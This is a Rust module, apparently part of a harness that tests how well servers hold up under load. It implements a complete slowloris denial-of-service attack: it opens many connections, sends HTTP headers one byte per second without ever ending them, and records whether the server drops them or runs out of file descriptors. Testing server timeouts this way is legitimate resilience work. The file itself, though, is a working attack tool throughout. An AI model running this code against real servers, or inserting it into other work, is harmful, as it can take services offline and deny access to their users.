//! `slowloris`: connections that send request headers one byte per second and never end
//! them.
//!
//! Each connection costs the server an fd and a little memory. A server with a
//! header-read timeout closes them (Node answers 408 after its `headersTimeout`); one
//! without keeps them all, and under a low fd limit (`--nofile 1024` and more connections
//! than that) can no longer accept anyone: the probe shows the outage.

use std::time::{Duration, Instant};

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

use super::raw::{Outcome, Rows, secs, short_error, spread, status_code, tally};

/// Time between two connections' starts.
const RAMP_STEP: Duration = Duration::from_millis(2);

/// Run the attack and return its rows.
pub async fn run(addr: &str, path: &str, connections: usize, duration: u64) -> Rows {
    // The header bytes sent first, one a second; after them come `a`s forever.
    let prefix = format!("POST {path} HTTP/1.1\r\nHost: {addr}\r\nUser-Agent: hostile\r\nX-Slow: ");
    let start = Instant::now();
    let end = start + Duration::from_secs(duration);
    let tasks: Vec<_> = (0..connections)
        .map(|i| {
            let (addr, prefix) = (addr.to_owned(), prefix.clone());
            let at = start + RAMP_STEP * i as u32;
            tokio::spawn(async move { one(&addr, prefix.as_bytes(), at, end, start).await })
        })
        .collect();
    let mut outcomes = Vec::new();
    for task in tasks {
        if let Ok(outcome) = task.await {
            outcomes.push(outcome);
        }
    }
    let mut rows = Rows::default();
    rows.push(
        "sizes",
        format!("{connections} connections, headers at 1 byte/s, {duration} s"),
    );
    let connected = outcomes
        .iter()
        .filter(|o| !matches!(o, Outcome::Failed(_, e) if e.starts_with("connect")))
        .count();
    rows.push("connected", format!("{connected} of {connections}"));
    rows.push("outcomes", tally(outcomes.iter().map(Outcome::label)));
    let closed: Vec<&Outcome> = outcomes
        .iter()
        .filter(|o| !matches!(o, Outcome::Held))
        .filter(|o| !matches!(o, Outcome::Failed(_, e) if e.starts_with("connect")))
        .collect();
    rows.push(
        "closed by the server",
        format!("{} of {connected}", closed.len()),
    );
    let mut at: Vec<f64> = closed
        .iter()
        .filter_map(|o| o.at())
        .map(|d| d.as_secs_f64())
        .collect();
    rows.push("close times (since the attack began)", spread(&mut at));
    rows.push("attack lasted", secs(start.elapsed()));
    rows
}

/// One connection, opened at `at`, trickling until the server closes it or `end`.
async fn one(addr: &str, prefix: &[u8], at: Instant, end: Instant, start: Instant) -> Outcome {
    tokio::time::sleep_until(at.into()).await;
    let limit = end.saturating_duration_since(Instant::now());
    let stream = match tokio::time::timeout(limit, TcpStream::connect(addr)).await {
        Ok(Ok(s)) => s,
        Ok(Err(e)) => {
            return Outcome::Failed(start.elapsed(), format!("connect: {}", short_error(&e)));
        }
        Err(_) => return Outcome::Failed(start.elapsed(), "connect: timeout".to_owned()),
    };
    let (mut rd, mut wr) = stream.into_split();
    let mut tick = tokio::time::interval(Duration::from_secs(1));
    let mut sent = 0usize;
    let mut got = Vec::new();
    let mut buf = [0u8; 1024];
    loop {
        tokio::select! {
            _ = tokio::time::sleep_until(end.into()) => return Outcome::Held,
            read = rd.read(&mut buf) => match read {
                Ok(0) => {
                    return match status_code(&got) {
                        Some(code) => Outcome::Status(code, start.elapsed()),
                        None => Outcome::Closed(start.elapsed()),
                    };
                }
                Ok(n) => {
                    got.extend_from_slice(&buf[..n]);
                    if let Some(code) = status_code(&got) {
                        return Outcome::Status(code, start.elapsed());
                    }
                }
                Err(e) => return Outcome::Failed(start.elapsed(), short_error(&e)),
            },
            _ = tick.tick() => {
                let byte = prefix.get(sent).copied().unwrap_or(b'a');
                if let Err(e) = wr.write_all(&[byte]).await {
                    return Outcome::Failed(start.elapsed(), format!("write: {}", short_error(&e)));
                }
                sent += 1;
            }
        }
    }
}
